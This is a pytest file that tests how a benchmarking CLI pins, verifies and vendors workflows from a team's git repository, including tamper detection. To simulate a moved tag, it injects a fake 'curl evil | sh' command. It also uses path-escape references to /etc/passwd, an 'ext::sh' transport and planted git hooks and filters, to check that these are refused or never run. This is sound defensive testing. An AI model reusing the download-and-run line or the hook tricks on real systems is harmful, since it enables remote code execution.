"""Workflows of a team in a git repository, used by two projects: pinned, updated, tampered with, vendored."""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path

import pytest

from tests.cli.shell import perfflow
from tests.library.team import COMMAND, LIMITS, WORDS, Team
from tests.repositories import git


@pytest.fixture
def team(tmp_path: Path) -> Team:
    return Team(tmp_path)


def test_two_projects_use_the_workflows_of_a_team(team: Team) -> None:
    one, two = team.project("one"), team.project("two")
    refused = team.run("run", "own", cwd=one)
    assert refused.returncode == 2
    assert f"own.yaml:2:10: error: {team.reference()} is not in perfflow.lock" in refused.stderr
    assert f"perfflow library add '{team.reference()}'" in refused.stderr
    added = team.run("library", "add", team.reference(), cwd=one)
    assert added.returncode == 0, added.stderr
    # All commands are shown, also the command in the tool file.
    assert "'<params.command>'" in added.stdout
    assert "echo $# words" in added.stdout
    assert "1 item pinned and fetched" in added.stdout
    done = team.run("run", "own", "--budget=60s", "--progress=off", "--json", cwd=one)
    assert done.returncode == 0, done.stdout + done.stderr
    result = json.loads(done.stdout)
    assert {row["name"] for row in result["benchmarks"]} == {"program", "words"}
    # The files of the run alone contain the commit of the workflow.
    (pin,) = json.loads(team.run("library", "list", "--json", cwd=one).stdout)["items"]
    used = [{key: pin[key] for key in ("reference", "commit", "sha256")}]
    folder = one / ".perfflow/runs/latest"
    assert result["run"]["library"] == used
    assert json.loads((folder / "receipt.json").read_text())["run"]["library"] == used
    (line,) = [line for line in (folder / "report.md").read_text().splitlines() if line.startswith("- library: ")]
    assert line.endswith(f"workflows/command.yaml at {pin['commit'][:12]}")
    # The items belong to the run, so judging again keeps them. A workflow without items has none.
    assert team.run("report", cwd=one).returncode == 0
    assert json.loads((folder / "result.json").read_text())["run"]["library"] == used
    (one / "workflows/plain.yaml").write_text(
        "perfflow: 1\nstages: {baseline: [{id: t, uses: command, runs: 1, with: {command: 'true'}}]}\n"
    )
    alone = json.loads(team.run("run", "plain", "--progress=off", "--json", cwd=one).stdout)
    assert alone["run"]["library"] == []
    # The other project is cloned with its lock, on another machine.
    shutil.copy(one / "perfflow.lock", two)
    shutil.rmtree(team.top / "cache")
    shutil.rmtree(team.top / "state")
    for words in (("run", "own"), ("validate",), ("plan", "own"), ("gate", "own", "--base=HEAD")):
        missing = team.run(*words, cwd=two)
        assert missing.returncode == 2
        assert "is not on this machine" in missing.stderr
        assert "fetch it: perfflow library add" in missing.stderr
    assert not (team.top / "cache/perfflow/library").exists()
    fetched = team.run("library", "add", cwd=two)
    assert (fetched.returncode, "echo $# words" in fetched.stdout) == (0, True)
    assert (one / "perfflow.lock").read_text() == (two / "perfflow.lock").read_text()
    assert team.run("validate", cwd=two).returncode == 0
    (item,) = json.loads(team.run("library", "list", "--json", cwd=two).stdout)["items"]
    assert (item["reference"], item["kind"], item["state"], item["shown"]) == (team.reference(), "tag", "fetched", True)
    assert item["commit"] == git(team.folder, "rev-parse", "HEAD").strip()
    files = json.loads(subprocess.check_output(["python3", "-c", _FILES, str(Path(item["folder"]))]))
    assert files == ["parts/limits.yaml", "tools/words.yaml", "workflows/command.yaml"]


_FILES = """
import json, pathlib, sys
top = pathlib.Path(sys.argv[1])
print(json.dumps(sorted(str(path.relative_to(top)) for path in top.rglob("*") if path.is_file())))
"""


def test_what_was_never_shown_is_run_only_if_it_is_trusted(team: Team) -> None:
    root = team.project("one")
    team.run("library", "add", team.reference(), cwd=root)
    shutil.rmtree(team.top / "state")
    assert team.run("validate", cwd=root).returncode == 0
    words = ("run", "own", "--budget=60s", "--progress=off", "--only=words")
    refused = team.run(*words, cwd=root)
    assert refused.returncode == 2
    assert f"the commands of {team.reference()} were never shown on this machine" in refused.stderr
    assert "perfflow library add" in refused.stderr
    assert "--trust" in refused.stderr
    assert not (root / ".perfflow").exists()
    assert team.run(*words, "--trust", cwd=root).returncode == 0
    # --trust applies to one run only.
    assert team.run(*words, cwd=root).returncode == 2


def test_a_tag_that_was_moved_keeps_its_pin_unless_that_is_allowed(team: Team) -> None:
    root = team.project("one")
    branch = team.reference("main", "parts/limits.yaml")
    assert team.run("library", "add", team.reference(), branch, cwd=root).returncode == 0
    before = (root / "perfflow.lock").read_text()
    old = git(team.folder, "rev-parse", "HEAD").strip()
    again = team.run("library", "update", cwd=root)
    assert (again.returncode, (root / "perfflow.lock").read_text()) == (0, before)
    team.write("tools/words.yaml", WORDS.replace("echo $#", "curl evil | sh; echo $#"))
    team.write("parts/limits.yaml", LIMITS.replace("5%", "3%"))
    new = team.commit("v1")
    moved = team.run("library", "update", cwd=root)
    assert moved.returncode == 1
    assert "the tag v1 was moved" in moved.stderr
    assert "--allow-moved" in moved.stderr
    assert "curl evil" not in moved.stdout
    # Branches may move.
    assert f"{branch}: {old[:12]} -> {new[:12]}, its files changed" in moved.stdout
    assert "concern: 3%" in moved.stdout
    assert f'commit: "{old}"' in (root / "perfflow.lock").read_text()
    taken = team.run("library", "update", "--allow-moved", cwd=root)
    assert taken.returncode == 0
    assert "curl evil | sh" in taken.stdout
    assert f'commit: "{old}"' not in (root / "perfflow.lock").read_text()


def test_a_byte_that_was_changed_in_the_cache_is_found(team: Team) -> None:
    root = team.project("one")
    team.run("library", "add", team.reference(), cwd=root)
    (item,) = json.loads(team.run("library", "list", "--json", cwd=root).stdout)["items"]
    path = Path(item["folder"], "tools/words.yaml")
    path.write_text(path.read_text().replace("echo", "Echo"))
    for words in (("run", "own"), ("validate",), ("library", "verify")):
        done = team.run(*words, cwd=root)
        assert done.returncode == (1 if "verify" in words else 2)
        assert "tools/words.yaml was changed" in done.stdout + done.stderr
    path.unlink()
    path.symlink_to("/etc/hostname")
    assert "is a link that leads out" in team.run("library", "verify", cwd=root).stdout
    assert team.run("library", "add", cwd=root).returncode == 0
    assert team.run("library", "verify", cwd=root).returncode == 0


def test_a_lock_with_another_checksum_than_the_commit_is_refused(team: Team) -> None:
    root = team.project("one")
    team.run("library", "add", team.reference(), cwd=root)
    text = (root / "perfflow.lock").read_text()
    team.write("parts/limits.yaml", LIMITS + "env: {A: b}\n")
    text = text.replace(git(team.folder, "rev-parse", "HEAD").strip(), team.commit())
    (root / "perfflow.lock").write_text(text)
    shutil.rmtree(team.top / "cache")
    done = team.run("library", "add", cwd=root)
    assert done.returncode == 2
    assert "perfflow.lock has other checksums than commit" in done.stderr
    assert (root / "perfflow.lock").read_text() == text


def test_a_vendored_item_is_a_part_of_the_project(team: Team) -> None:
    root = team.project("one")
    team.run("library", "add", team.reference(), cwd=root)
    done = team.run("library", "vendor", cwd=root)
    assert done.returncode == 0
    copy = root / "workflows/vendor/file" / str(team.folder).lstrip("/")
    copy = copy.with_name(f"{copy.name}@v1")
    assert sorted(path.name for path in copy.rglob("*.yaml")) == ["command.yaml", "limits.yaml", "words.yaml"]
    # On another machine nothing is fetched, and reviewers of the project have seen the commands.
    for name in ("cache", "state", "team"):
        shutil.move(team.top / name, team.top / f"{name}-gone")
    assert team.run("validate", cwd=root).returncode == 0
    ran = team.run("run", "own", "--budget=60s", "--progress=off", "--only=words", cwd=root)
    assert ran.returncode == 0, ran.stdout + ran.stderr
    assert team.run("library", "verify", cwd=root).returncode == 0
    words = copy / "tools/words.yaml"
    words.write_text(WORDS.replace("echo", "Echo"))
    changed = team.run("run", "own", cwd=root)
    assert changed.returncode == 2
    assert "tools/words.yaml was changed" in changed.stderr
    assert "restore it: perfflow library vendor" in changed.stderr
    unreachable = team.run("library", "vendor", cwd=root)
    assert unreachable.returncode == 3
    shutil.move(team.top / "team-gone", team.folder)
    assert team.run("library", "vendor", cwd=root).returncode == 0
    assert words.read_text() == WORDS
    # Files that the next version no longer has are removed.
    team.write("workflows/command.yaml", COMMAND.replace("extends: ../parts/limits.yaml\n", ""))
    team.commit("v1")
    assert team.run("library", "update", "--allow-moved", cwd=root).returncode == 0
    assert not (copy / "parts/limits.yaml").exists()
    assert team.run("library", "verify", cwd=root).returncode == 0


def test_copies_of_one_repository_share_a_folder(team: Team) -> None:
    words = (team.reference("v1", "parts/limits.yaml"), team.reference())
    root = team.project("one", f"[{', '.join(words)}]")
    team.run("library", "add", *words, cwd=root)
    assert team.run("library", "vendor", cwd=root).returncode == 0
    assert team.run("validate", cwd=root).returncode == 0
    # A file that no item pins does not belong to an item, even in the same folder.
    (limits,) = root.glob("workflows/vendor/**/parts/limits.yaml")
    (limits.parent / "other.yaml").write_text(LIMITS)
    assert team.run("library", "verify", cwd=root).returncode == 0
    (limits.parent.parent / "workflows/command.yaml").write_text(COMMAND.replace("limits", "other"))
    assert "command.yaml was changed" in team.run("validate", cwd=root).stderr


def test_mistakes_of_a_fetched_file_are_shown_in_it(team: Team) -> None:
    team.write("workflows/command.yaml", COMMAND.replace("uses: command", "uses: comand"))
    team.commit("v1")
    root = team.project("one")
    added = team.run("library", "add", team.reference(), cwd=root)
    assert added.returncode == 0
    done = team.run("validate", cwd=root)
    assert done.returncode == 2
    assert "workflows/command.yaml:8:27: error: unknown tool 'comand'" in done.stderr
    team.write("workflows/command.yaml", "perfflow: 1\nstages: [\n")
    team.commit("v1")
    broken = team.run("library", "update", "--allow-moved", cwd=root)
    assert broken.returncode == 2
    assert f"{team.reference()}:2:" in broken.stderr


@pytest.mark.parametrize(
    ("files", "path", "said"),
    [
        ({"a.yaml": "perfflow: 1\nextends: ../x.yaml\n"}, "a.yaml", "#a.yaml:2:10: error: ../x.yaml leads out"),
        ({"a.yaml": "perfflow: 1\nextends: /etc/passwd\n"}, "a.yaml", "/etc/passwd leads out of the repository"),
        ({"a.yaml": "perfflow: 1\nextends: b.yaml\n"}, "a.yaml", "has no file 'b.yaml'"),
        ({"b.yaml": LIMITS}, "a.yaml", "has no file 'a.yaml' at v1"),
        ({"a.yaml": "#" * (2**20 + 1)}, "a.yaml", "more than 1,048,576"),
        ({"a.yaml": "perfflow: 1\nextends: git+ext::sh@v1#x\n"}, "a.yaml", "may not be used over 'ext'"),
        ({"a.yaml": "perfflow: 1\nextends: git+file:///nowhere@-x#x\n"}, "a.yaml", "is not a revision"),
    ],
)
def test_an_item_that_leads_elsewhere_is_refused(files: dict[str, str], path: str, said: str, team: Team) -> None:
    for name, text in files.items():
        team.write(name, text)
    team.commit("v1")
    root = team.project("one")
    done = team.run("library", "add", team.reference("v1", path), cwd=root)
    assert (done.returncode, said in done.stderr) == (2, True), done.stderr
    assert "hint: " in done.stderr
    assert not (root / "perfflow.lock").exists()


def test_a_link_and_a_submodule_are_refused(team: Team) -> None:
    (team.folder / "link.yaml").symlink_to("/etc/hostname")
    git(team.folder, "add", "-A")
    commit = git(team.folder, "rev-parse", "HEAD").strip()
    git(team.folder, "update-index", "--add", "--cacheinfo", f"160000,{commit},inner")
    git(team.folder, "commit", "-qm", "links")
    git(team.folder, "tag", "v2")
    root = team.project("one")
    for path, said in (("link.yaml", "is a symbolic link"), ("inner", "is a submodule")):
        done = team.run("library", "add", team.reference("v2", path), cwd=root)
        assert (done.returncode, said in done.stderr) == (2, True), done.stderr


def test_repositories_that_extend_each_other_are_refused(team: Team) -> None:
    other = Team(team.top / "o")
    team.write("a.yaml", f"perfflow: 1\nextends: {other.reference('main', 'b.yaml')}\n")
    other.write("b.yaml", f"perfflow: 1\nextends: {team.reference('main', 'a.yaml')}\n")
    for each in (team, other):
        each.commit()
    root = team.project("one")
    done = team.run("library", "add", team.reference("main", "a.yaml"), cwd=root)
    assert done.returncode == 2
    assert "circular `extends`" in done.stderr
    assert not (root / "perfflow.lock").exists()
    # Without a cycle, both are pinned.
    other.write("b.yaml", LIMITS)
    other.commit()
    assert team.run("library", "add", team.reference("main", "a.yaml"), cwd=root).returncode == 0
    items = json.loads(team.run("library", "list", "--json", cwd=root).stdout)["items"]
    assert [Path(item["path"]).name for item in items] == ["b.yaml", "a.yaml"]


def test_what_cannot_be_reached_or_read_has_its_remedy(team: Team) -> None:
    root = team.project("one")
    (team.top / "empty").mkdir()
    nowhere = f"git+file://{team.top}/nowhere@v1#a.yaml"
    for words, status, said in (
        (("add", nowhere), 3, "asking file://"),
        (("add", "git+https://no-such-host.invalid/o/r@v1#a"), 3, "check the address and the network"),
        (("add", team.reference("v9")), 2, "did you mean 'v1'?"),
        (("add", team.reference("abcdef1")), 2, "all digits of a commit"),
        (("add", team.reference("0" * 40)), 3, "fetching 000000000000"),
        (("add", "workflows/own.yaml"), 2, "is not a reference to a file in git"),
        (("add",), 2, "there is no perfflow.lock here"),
        (("update",), 2, "there is no perfflow.lock here"),
    ):
        done = team.run("library", *words, cwd=root)
        assert (done.returncode, said in done.stderr) == (status, True), done.stderr
    alone = perfflow(
        "library", "add", team.reference(), cwd=root, env=team.env, path=str(team.top / "empty"), fresh=True
    )
    assert (alone.returncode, "git is not on PATH" in alone.stderr) == (3, True)
    (root / "perfflow.lock").write_text("perfflow-lock: 7\n")
    for line in ("validate", "library list", "library verify", f"library add {team.reference()}"):
        newer = team.run(*line.split(), cwd=root)
        assert (newer.returncode, "update perfflow" in newer.stderr) == (2, True)


def test_nothing_of_a_repository_is_run_by_fetching(team: Team) -> None:
    """Neither hooks and filters of the repository nor commands in the configuration of the project are run."""
    root = team.project("one")
    bad = team.top / "bad"
    bad.write_text(f"#!/bin/sh\ntouch {team.top}/was-run\ncat\n")
    bad.chmod(0o755)
    for folder in (team.folder, root):
        for hook in ("post-checkout", "reference-transaction", "pre-receive", "post-index-change"):
            shutil.copy(bad, folder / ".git/hooks" / hook)
        for key in ("uploadpack.packObjectsHook", "core.fsmonitor", "filter.x.smudge", "core.sshCommand"):
            git(folder, "config", key, str(bad))
    team.write(".gitattributes", "* filter=x\n")
    (team.folder / ".git/config").write_text((team.folder / ".git/config").read_text().replace("[filter", "[filtr"))
    for name in ("core.fsmonitor",):
        git(team.folder, "config", "--unset", name)
    shutil.rmtree(team.folder / ".git/hooks")
    team.commit("v2")
    shutil.copytree(root / ".git/hooks", team.folder / ".git/hooks")
    (team.top / "was-run").unlink(missing_ok=True)
    done = team.run("library", "add", team.reference("v2"), cwd=root)
    assert done.returncode == 0, done.stderr
    assert not (team.top / "was-run").exists()


def test_a_folder_and_a_tool_are_items_too(team: Team) -> None:
    team.write("kit/workflow.yaml", COMMAND.replace("../parts", "."))
    team.write("kit/limits.yaml", LIMITS)
    team.write("kit/notes.md", "read me\n")
    team.commit("v2")
    root = team.project("one", f"[{team.reference('v2', 'kit')}]")
    uses = f"perfflow: 1\nstages:\n  baseline:\n    - id: w\n      uses: {team.reference('v2', 'tools/words.yaml')}\n"
    (root / "workflows/tool.yaml").write_text(f"{uses}      with: {{text: a}}\n")
    words = (team.reference("v2", "kit"), team.reference("v2", "tools/words.yaml"))
    assert team.run("library", "add", *words, cwd=root).returncode == 0
    items = json.loads(team.run("library", "list", "--json", cwd=root).stdout)["items"]
    assert [item["path"] for item in items] == ["kit/workflow.yaml", "tools/words.yaml"]
    assert Path(items[0]["folder"], "kit/notes.md").is_file()
    assert team.run("validate", cwd=root).returncode == 0
    shown = team.run("show", words[1], cwd=root)
    assert shown.stdout.startswith("words  (tool, from git+file://")
    ran = team.run("run", words[0], "--set=command=true", "--budget=60s", "--only=words", "--progress=off", cwd=root)
    assert ran.returncode == 0, ran.stderr
    events = root / ".perfflow/runs/latest/events.jsonl"
    assert json.loads(events.read_text().splitlines()[0])["run"]["file"] == words[0]
    formatted = team.run("fmt", words[0], cwd=root)
    assert "is outside this project and is not changed" in formatted.stderr


def test_a_library_begins_with_a_workflow_that_passes_its_test(tmp_path: Path) -> None:
    done = perfflow("library", "init", "team", cwd=tmp_path)
    assert done.returncode == 0
    assert "perfflow library test team" in done.stdout
    again = perfflow("library", "init", "team", cwd=tmp_path)
    assert (again.returncode, "team is not empty" in again.stderr) == (2, True)
    (tmp_path / "team/workflows/idle.yaml").write_text(LIMITS)
    case = (tmp_path / "team/tests/command.yaml").read_text()
    (tmp_path / "team/tests/wrong.yaml").write_text(case.replace("[program]", "[other]").replace("exit: 0", "exit: 1"))
    (tmp_path / "team/tests/plan.yaml").write_text(case.replace("[program, repeatable]", "[program]"))
    tested = perfflow("library", "test", "team", cwd=tmp_path)
    assert tested.returncode == 1
    lines = tested.stdout.splitlines()
    assert lines[:2] == ["workflows/command.yaml: ok", "workflows/idle.yaml: failed"]
    assert "tests/command.yaml: ok" in lines
    assert "  exit status 0; expected 1" in lines
    assert "  benchmarks: program; expected other" in lines
    assert "  steps: program, repeatable; expected program" in lines
    assert "  no test under tests/ runs it" in lines
    assert lines[-1] == "2 of 6 passed"
    assert sorted(item.name for item in (tmp_path / "team").iterdir()) == ["README.md", "tests", "workflows"]
    empty = perfflow("library", "test", ".", cwd=tmp_path)
    assert (empty.returncode, "has no workflows/" in empty.stderr) == (2, True)


def test_a_folder_in_the_way_of_a_copy_is_not_followed(team: Team) -> None:
    root = team.project("one")
    team.run("library", "add", team.reference(), cwd=root)
    (team.top / "outside").mkdir()
    (root / "workflows/vendor").symlink_to(team.top / "outside")
    done = team.run("library", "vendor", cwd=root)
    assert done.returncode == 2
    assert "a link leads out of the project" in done.stderr
    assert list((team.top / "outside").iterdir()) == []
    assert "vendored" not in (root / "perfflow.lock").read_text()
